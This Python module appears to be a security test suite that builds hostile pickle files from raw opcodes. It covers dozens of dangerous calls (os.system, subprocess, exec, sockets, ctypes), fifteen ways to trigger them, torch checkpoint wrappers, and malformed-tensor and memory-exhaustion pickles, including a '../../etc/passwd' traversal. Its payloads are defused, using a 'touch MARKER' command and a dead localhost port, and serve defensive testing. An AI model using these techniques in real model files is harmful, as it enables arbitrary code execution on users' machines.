"""Hostile pickles: what they call, the way in which they do, and what they are wrapped in.

Nothing here pickles an object: each is put together of opcodes, so that no class has to exist.
What is called would write a marker file, open a port of this machine that nobody listens on, or
load a library that is not there.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from attack import Attack
from sealing import seal_again

Fragment = bytes
"""Opcodes that leave one object on the stack."""
MARK, STOP = b"(", b"."


def text(value: str) -> Fragment:
    plain = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(plain)) + plain


def blob(value: bytes) -> Fragment:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> Fragment:
    return b"I" + str(value).encode() + b"\n"


def items(*held: Fragment) -> Fragment:
    return b"](" + b"".join(held) + b"e"


def pair_up(*held: tuple[Fragment, Fragment]) -> Fragment:
    return b"}(" + b"".join(key + value for key, value in held) + b"u"


def together(*held: Fragment) -> Fragment:
    return MARK + b"".join(held) + b"t"


def of(module: str, name: str) -> Fragment:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def called(module: str, name: str, *held: Fragment) -> Fragment:
    return of(module, name) + together(*held) + b"R"


def whole(fragment: Fragment, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + fragment + STOP


SHELL, CODE = text("touch MARKER"), text("open('MARKER', 'w')")
INNER = blob(whole(called("os", "system", SHELL)))
LISTED = items(text("touch"), text("MARKER"))
CALLS: tuple[tuple[str, str, tuple[Fragment, ...]], ...] = (
    ("os", "system", (SHELL,)),
    ("posix", "system", (SHELL,)),
    ("os", "popen", (SHELL,)),
    ("os", "mkdir", (text("MARKER"),)),
    ("os", "symlink", (text("/"), text("MARKER"))),
    ("os", "execv", (text("/bin/touch"), LISTED)),
    ("os", "posix_spawn", (text("/bin/touch"), LISTED, b"}")),
    ("subprocess", "Popen", (LISTED,)),
    ("subprocess", "call", (LISTED,)),
    ("subprocess", "check_output", (LISTED,)),
    ("pty", "spawn", (LISTED,)),
    ("multiprocessing.util", "spawnv_passfds", (blob(b"/bin/touch"), LISTED, together())),
    ("builtins", "exec", (CODE,)),
    ("builtins", "eval", (CODE,)),
    ("__builtin__", "eval", (CODE,)),
    ("builtins", "compile", (CODE, text("x"), text("exec"))),
    ("builtins", "__import__", (text("colorsys"),)),
    ("builtins", "open", (text("MARKER"), text("w"))),
    ("builtins", "getattr", (of("collections", "OrderedDict"), text("__init__"))),
    ("builtins", "setattr", (of("collections", "OrderedDict"), text("x"), number(1))),
    ("builtins", "print", (text("MARKER"),)),
    ("builtins", "input", ()),
    ("io", "open", (text("MARKER"), text("w"))),
    ("_io", "FileIO", (text("MARKER"), text("w"))),
    ("importlib", "import_module", (text("colorsys"),)),
    ("runpy", "_run_code", (CODE, b"}")),
    ("timeit", "timeit", (CODE, text("pass"))),
    ("cProfile", "run", (CODE,)),
    ("code", "InteractiveInterpreter", ()),
    ("types", "CodeType", ()),
    ("marshal", "loads", (blob(b"\xe3"),)),
    ("pickle", "loads", (INNER,)),
    ("_pickle", "loads", (INNER,)),
    ("pickle", "_Unpickler", (called("_io", "BytesIO", INNER),)),
    ("shelve", "open", (text("MARKER"),)),
    ("dbm.dumb", "open", (text("MARKER"), text("c"))),
    ("sqlite3", "connect", (text("MARKER"),)),
    ("zipfile", "ZipFile", (text("MARKER"), text("w"))),
    ("logging", "FileHandler", (text("MARKER"),)),
    ("tempfile", "mkdtemp", ()),
    ("shutil", "copyfile", (text("/proc/self/cmdline"), text("MARKER"))),
    ("socket", "create_connection", (together(text("127.0.0.1"), number(9)),)),
    ("urllib.request", "urlopen", (text("http://127.0.0.1:9/"),)),
    ("ctypes", "CDLL", (text("/nowhere/none.so"),)),
    ("atexit", "register", (of("os", "getpid"),)),
    ("signal", "signal", (number(15), number(1))),
    ("sys", "settrace", (of("os", "system"),)),
    ("threading", "Thread", ()),
    ("functools", "partial", (of("os", "system"), SHELL)),
    ("operator", "methodcaller", (text("system"), SHELL)),
    ("yaml", "unsafe_load", (text("!!python/object/apply:os.system ['touch MARKER']"),)),
    ("numpy", "load", (text("MARKER"),)),
    ("numpy", "save", (text("MARKER"), items())),
    ("torch", "load", (text("MARKER"),)),
    ("torch", "save", (items(), text("MARKER"))),
    ("torch.jit", "load", (text("MARKER"),)),
    ("torch.ops", "load_library", (text("/nowhere/none.so"),)),
    ("torch.hub", "load_state_dict_from_url", (text("http://127.0.0.1:9/x"),)),
    ("torch.nn", "Linear", (number(1), number(1))),
    ("torch.serialization", "_load", (text("MARKER"),)),
    ("torch.package", "PackageImporter", (text("MARKER"),)),
    ("torch.fx.graph_module", "reduce_graph_module", (pair_up((text("_code"), CODE)), text("x"))),
    ("torch.utils._config_module", "ConfigModule", ()),
    ("torch._inductor.codecache", "PyCodeCache", ()),
    ("lightning.pytorch", "Trainer", ()),
    ("lightning.pytorch.core.saving", "load_hparams_from_yaml", (text("MARKER"),)),
    ("lpot_lightning.machine.files", "write_file", (called("pathlib", "Path", text("MARKER")),)),
    ("lpot_lightning.machine.files", "remove_file", (called("pathlib", "Path", text("MARKER")),)),
    ("lpot_lightning", "load", (text("MARKER"),)),
    ("omegaconf", "OmegaConf.register_new_resolver", (text("x"), of("os", "system"))),
)
"""Module, name and arguments of what would be called."""

Way = Callable[[str, str, tuple[Fragment, ...]], Fragment]


def _stack_global(module: str, name: str, held: tuple[Fragment, ...]) -> Fragment:
    return text(module) + text(name) + b"\x93" + together(*held) + b"R"


def _remembered(module: str, name: str, held: tuple[Fragment, ...]) -> Fragment:
    return of(module, name) + b"q\x07" + b"0" + b"h\x07" + together(*held) + b"R"


def _built(module: str, name: str, held: tuple[Fragment, ...]) -> Fragment:
    return of(module, name) + b")\x81" + pair_up((text("x"), items(*held))) + b"b"


def _state_of_allowed(module: str, name: str, held: tuple[Fragment, ...]) -> Fragment:
    state = pair_up(
        (text("__reduce__"), of(module, name)), (text("x"), called(module, name, *held))
    )
    return of("collections", "OrderedDict") + b")R" + state + b"b"


def _as_storage(module: str, name: str, held: tuple[Fragment, ...]) -> Fragment:
    kind = of(module, name)
    return together(text("storage"), kind, text("0"), text("cpu"), number(4)) + b"Q"


def _of_allowed(module: str, name: str, held: tuple[Fragment, ...]) -> Fragment:
    return called(
        "torch._utils", "_rebuild_tensor_v2", called(module, name, *held), *[number(0)] * 5
    )


WAYS: dict[str, Way] = {
    "reduce": lambda module, name, held: called(module, name, *held),
    "stack global": _stack_global,
    "inst": lambda m, n, held: MARK + b"".join(held) + f"i{m}\n{n}\n".encode(),
    "obj": lambda m, n, held: MARK + of(m, n) + b"".join(held) + b"o",
    "newobj": lambda m, n, held: of(m, n) + together(*held) + b"\x81",
    "newobj ex": lambda m, n, held: of(m, n) + together(*held) + b"}\x92",
    "build": _built,
    "state of an allowed class": _state_of_allowed,
    "dotted name": lambda m, n, held: _stack_global("os", f"path.os.{n}", held),
    "memo": _remembered,
    "persistent id": _as_storage,
    "persistent id in text": lambda m, n, held: b"Pstorage " + f"{m}.{n}".encode() + b"\n",
    "key of a dict": lambda m, n, held: pair_up((called(m, n, *held), number(1))),
    "argument of an allowed call": _of_allowed,
    "extension": lambda m, n, held: b"\x82\x01" + together(*held) + b"R",
}
"""How a pickle comes to call something."""


def zipped(data: bytes, folder: str = "archive", **records: bytes) -> bytes:
    """Return what ``torch.save`` would make around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{folder}/data.pkl", data)
        archive.writestr(f"{folder}/byteorder", b"little")
        archive.writestr(f"{folder}/version", b"3\n")
        archive.writestr(f"{folder}/data/0", bytes(64))
        for name, content in records.items():
            archive.writestr(f"{folder}/{name}", content)
    return buffer.getvalue()


_MAGIC = 0x1950A86A20F9469CFC6C


def legacy(data: bytes) -> bytes:
    """Return the form of torch before 1.6: pickles one after the other."""
    told = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    heads = [pickle.dumps(one, 2) for one in (_MAGIC, 1001, told)]
    return b"".join(heads) + data + pickle.dumps([], 2)


def tarred(data: bytes) -> bytes:
    """Return the form of torch before 0.1.10: a tar of pickles."""
    buffer = io.BytesIO()
    none = pickle.dumps(0, 2)
    parts = {"sys_info": pickle.dumps({}, 2), "storages": none, "tensors": none, "pickle": data}
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in parts.items():
            told = tarfile.TarInfo(name)
            told.size = len(content)
            archive.addfile(told, io.BytesIO(content))
    return buffer.getvalue()


def _weights(fragment: Fragment) -> bytes:
    return zipped(whole(pair_up((text("head.weight"), fragment)), 4))


def _checkpoint(key: str) -> Callable[[Fragment], bytes]:
    def made(fragment: Fragment) -> bytes:
        held = [
            (text("epoch"), number(0)),
            (text("global_step"), number(0)),
            (text("pytorch-lightning_version"), text("2.6.6")),
            (text("state_dict"), pair_up()),
            (text(key), fragment),
        ]
        return zipped(whole(pair_up(*held), 4))

    return made


CONTAINERS: dict[str, tuple[str, str, Callable[[Fragment], bytes]]] = {
    "weights": ("pair", "best_model_weights.pt", _weights),
    "pruned weights": ("pruned pair", "pruned_model_weights.pt", _weights),
    "plain pickle": ("pair", "best_model_weights.pt", lambda one: whole(one, 4)),
    "legacy": ("pair", "best_model_weights.pt", lambda one: legacy(whole(one))),
    "tar": ("pair", "best_model_weights.pt", lambda one: tarred(whole(one))),
    "int8 checkpoint": ("checkpoint", "best_quantized.ckpt", _checkpoint("lpot_lightning")),
    "hyperparameters": ("checkpoint", "best_quantized.ckpt", _checkpoint("hyper_parameters")),
    "plain checkpoint": ("checkpoint", "best_quantized.ckpt", lambda one: whole(one, 4)),
    "QAT checkpoint": ("qat checkpoint", "qat.ckpt", _checkpoint("callbacks")),
    "weights of a fit": ("fp32 checkpoint", "some.ckpt", _checkpoint("optimizer_states")),
    "legacy of a fit": ("fp32 checkpoint", "some.ckpt", lambda one: legacy(whole(one))),
    "tar of a fit": ("fp32 checkpoint", "some.ckpt", lambda one: tarred(whole(one))),
}
"""Door, file and form of each."""


def _put(file: str, content: bytes) -> Callable[[Path], object]:
    """Return what writes it, and has the tune config name it."""

    def put(folder: Path) -> None:
        (folder / file).write_bytes(content)
        seal_again(folder)

    return put


def calling() -> Iterator[Attack]:
    """Yield each call in each container, in two ways each, all ways in turns."""
    ways, turn = list(WAYS.items()), 0
    for module, name, held in CALLS:
        for container, (door, file, form) in CONTAINERS.items():
            for number_of in range(2):
                way, make = ways[(turn + 7 * number_of) % len(ways)]
                told = f"pickle: `{module}.{name}` by {way} in {container}"
                put = _put(file, form(make(module, name, held)))
                yield Attack(told, door, put)
            turn += 1


def _storage(kind: str, key: str = "0", place: str = "cpu", numel: int = 16) -> Fragment:
    held = text("storage"), of("torch", kind), text(key), text(place), number(numel)
    return together(*held) + b"Q"


def _tensor(
    size: tuple[int, ...],
    stride: tuple[int, ...],
    *,
    offset: int = 0,
    numel: int = 16,
    kind: str = "FloatStorage",
    key: str = "0",
    place: str = "cpu",
) -> Fragment:
    """Return a tensor as ``torch.save`` describes one; the storage has 64 bytes."""
    sizes = [together(*map(number, one)) for one in (size, stride)]
    rest = (number(offset), *sizes, b"I00\n", called("collections", "OrderedDict"))
    return called("torch._utils", "_rebuild_tensor_v2", _storage(kind, key, place, numel), *rest)


_LAYOUT = of("torch.serialization", "_get_layout")


def _sparse(layout: str, *held: Fragment) -> Fragment:
    named = _LAYOUT + together(text(layout)) + b"R"
    return called("torch._utils", "_rebuild_sparse_tensor", named, together(*held))


def _doubled(levels: int) -> Fragment:
    """Return a list that stands for ``2 ** levels`` values."""
    made = b"]q\x00" + number(1) + b"a"
    for level in range(levels):
        made += b"0](" + b"h" + bytes([level]) + b"h" + bytes([level]) + b"eq" + bytes([level + 1])
    return made


_LONG = 1 << 40
LIES: dict[str, Fragment] = {
    "a storage that says more than it has": _tensor((1 << 30,), (1,), numel=1 << 30),
    "a storage of 2**62 numbers": _tensor((4,), (1,), numel=1 << 62),
    "a storage of less than no numbers": _tensor((4,), (1,), numel=-4),
    "a tensor beyond its storage": _tensor((1 << 20,), (1,)),
    "an offset beyond the storage": _tensor((4,), (1,), offset=1 << 20),
    "an offset before the storage": _tensor((4,), (1,), offset=-8),
    "a stride that leaves the storage": _tensor((4,), (_LONG,)),
    "a stride backwards": _tensor((4,), (-1,), offset=8),
    "sizes whose product overflows": _tensor((1 << 32, 1 << 32), (0, 0)),
    "a size below zero": _tensor((-4,), (1,)),
    "one number as 2**36": _tensor((1 << 36,), (0,)),
    "a record that is missing": _tensor((4,), (1,), key="9"),
    "a record of the folder above": _tensor((4,), (1,), key="../../etc/passwd"),
    "on the meta device": _tensor((4,), (1,), place="meta"),
    "on a device that is none": _tensor((4,), (1,), place="nowhere:7"),
    "on the GPU": _tensor((4,), (1,), place="cuda:0"),
    "sizes in floats": called(
        "torch._utils", "_rebuild_tensor_v2",
        _storage("FloatStorage"),
        number(0), together(b"F4.5\n"), together(b"F1.0\n"), b"I00\n",
        called("collections", "OrderedDict"),
    ),
    "sparse with an index of 2**40": _sparse(
        "torch.sparse_coo",
        _tensor((1, 1), (1, 1), kind="LongStorage", numel=8),
        _tensor((1,), (1,)),
        together(number(_LONG)),
        b"I01\n",
    ),
    "sparse without a check": _sparse(
        "torch.sparse_coo",
        _tensor((1, 4), (1, 1), kind="LongStorage", numel=8),
        _tensor((4,), (1,)),
        together(number(2)),
        b"I01\n",
    ),
    "compressed rows that lie": _sparse(
        "torch.sparse_csr",
        _tensor((3,), (1,), kind="LongStorage", numel=8),
        _tensor((2,), (1,), kind="LongStorage", numel=8),
        _tensor((2,), (1,)),
        together(number(2), number(2)),
    ),
    "a layout that is none": _sparse("torch.nonsense"),
    "a quantized tensor": called(
        "torch._utils", "_rebuild_qtensor",
        _storage("QInt8Storage"),
        number(0), together(number(4)), together(number(1)),
        together(of("torch", "per_tensor_affine"), b"F0.1\n", number(0)),
        b"I00\n", called("collections", "OrderedDict"),
    ),
    "a parameter with a state": called(
        "torch._utils", "_rebuild_parameter_with_state", _tensor((4,), (1,)), b"I01\n",
        called("collections", "OrderedDict"), pair_up((text("__class__"), text("x"))),
    ),
    "a tensor of a class that is none": called(
        "torch._tensor", "_rebuild_from_type_v2", of("torch._utils", "_rebuild_tensor_v2"),
        of("torch", "Tensor"), together(), pair_up((text("grad_fn"), text("x"))),
    ),
    "a wrapper that is nothing inside": called(
        "torch._utils", "_rebuild_wrapper_subclass", of("torch", "Tensor"), of("torch", "float32"),
        together(number(4)), together(number(1)), number(0), of("torch", "strided"),
        text("cpu"), b"I00\n",
    ),
    "a meta tensor without a storage": called(
        "torch._utils", "_rebuild_meta_tensor_no_storage", of("torch", "float32"),
        together(number(1 << 40)), together(number(1)), b"I00\n",
    ),
    "not a tensor": text("weights"),
    "nothing": b"N",
    "a number of 10,000 digits": b"I" + b"9" * 10_000 + b"\n",
    "a long of 2 GB": b"\x8b\xff\xff\xff\x7f",
    "a text of 2**62 bytes": b"\x8d" + struct.pack("<Q", 1 << 62),
    "bytes of 2**62": b"\x8e" + struct.pack("<Q", 1 << 62),
    "a bytearray of 2**40": b"\x96" + struct.pack("<Q", _LONG),
    "a text that is no UTF-8": b"X" + struct.pack("<I", 4) + b"\xff\xfe\xfd\xfc",
    "a text of a lonely surrogate": text("\ud800"),
    "a memo of 2**31": b"Nr\xff\xff\xff\x7f",
    "a memo that is empty": b"h\x05",
    "a frame that lies": b"\x95" + struct.pack("<Q", 1 << 60) + b"N",
    "a list of itself": b"]q\x00h\x00a",
    "a dict of itself": b"}q\x00" + text("x") + b"h\x00s",
    "100,000 lists in each other": b"]" * 100_000 + b"a" * 99_999,
    "100,000 tuples in each other": b"N" + b"\x85" * 100_000,
    "lists of 2**40 values": _doubled(40),
    "a stack that is empty": b"0000",
    "marks alone": MARK * 50_000 + b"N",
    "opcodes that are none": b"\xfe\xfd\xfc",
    "out of band": b"\x97\x98",
    "a protocol of 200": b"\x80\xc8N",
    "keys that collide": pair_up(*((number(k << 61), b"N") for k in range(1, 2000))),
    "a key that cannot be one": pair_up((items(), b"N")),
    "a million values": b"](" + b"K\x01" * 1_000_000 + b"e",
    "a counter of much": called("collections", "Counter", pair_up((text("a"), number(_LONG)))),
    "a size that is no size": called("torch", "Size", together(text("x"))),
    "a device of an odd name": called("torch", "device", text("x" * 10_000)),
    "another default type": called("torch", "set_default_dtype", of("torch", "float16")),
    "a default dict of a call": called("collections", "defaultdict", of("os", "getpid")),
    "bytes by a codec": called("_codecs", "encode", text("x"), text("rot13")),
    "ends in the middle": text("x")[:3],
}  # fmt: skip
"""Pickles that name nothing forbidden, and are not what a file of ours holds."""


def lying() -> Iterator[Attack]:
    """Yield each lie in each container."""
    for lie, fragment in LIES.items():
        for container, (door, file, form) in CONTAINERS.items():
            extra = container in ("hyperparameters", "QAT checkpoint", "weights of a fit")
            plain = container.endswith("of a fit") or extra
            yield Attack(f"lie: {lie} in {container}", door, _put(file, form(fragment)), plain)
